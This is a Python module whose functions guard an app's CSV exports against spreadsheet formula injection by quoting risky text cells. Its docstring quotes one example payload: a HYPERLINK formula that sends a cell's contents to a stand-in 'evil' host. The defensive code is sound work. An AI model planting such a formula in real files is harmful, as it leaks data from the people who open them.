"""CSV cells that a spreadsheet will not run as formulas (CSV injection, OWASP).

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, after a tab or a carriage return, the same) as a formula, so a student's transcript
reading ``=HYPERLINK("http://evil/?"&A1, "click")`` would become a live link when a reviewer
opens the export. Every CSV the app writes passes its cells through `safe_cell`: a *text* cell
starting with one of those characters gets a leading single quote (``'=HYPERLINK(...)``), which
spreadsheets show as text. Numbers (int, float, Decimal), booleans and empty cells are written
as they are, so ``-3`` or ``-0.5`` in a numeric column stays a number; only strings change. The
JSONL and Parquet exports carry the exact text; nothing reads our CSVs back in.

Spreadsheets also trim leading blanks on import and some map full-width forms to ASCII, so a
cell counts as a formula when its first character *after any leading whitespace* (spaces, tabs,
line breaks, the ideographic space U+3000, no-break spaces; zero-width spaces and a byte-order
mark too) is one of ``= + - @`` or their full-width forms ``＝ ＋ － ＠``. Such a cell gets the
quote as well: ``' =1+1``, ``'\n=1+1``, ``'＝1+1``. What is skipped is every character that shows
as nothing, in any order and mix: whitespace, the Unicode categories Zs/Zl/Zp (blanks and
separators), Cf (format characters: zero-width spaces and joiners, the BOM, bidi marks, soft
hyphens) and Cc (control characters), so `` \u200b \u200b=1`` is caught as well as `` =1``.
"""
import unicodedata

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
FORMULA_CHARACTERS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")  # and ＝ ＋ － ＠ (full width)
_BLANK_CATEGORIES = frozenset({"Zs", "Zl", "Zp", "Cf", "Cc"})  # shown as nothing (or as a blank)


def _first_visible(text):
    """The first character of `text` that is neither whitespace nor shown as nothing, or ""."""
    for character in text:
        if not character.isspace() and unicodedata.category(character) not in _BLANK_CATEGORIES:
            return character
    return ""


def looks_like_formula(text):
    """Whether a spreadsheet could read this text as a formula."""
    if text.startswith(FORMULA_STARTS):
        return True
    return _first_visible(text) in FORMULA_CHARACTERS


def safe_cell(value):
    """The value as a CSV cell: text that a spreadsheet would evaluate gets a leading quote."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


def safe_row(row):
    """A row (a dict, or a list of cells) with every cell made safe."""
    if isinstance(row, dict):
        return {key: safe_cell(value) for key, value in row.items()}
    return [safe_cell(value) for value in row]


def safe_text_column(values):
    """safe_cell over a column of text cells (str or None) at once."""
    return [safe_cell(value) for value in values]
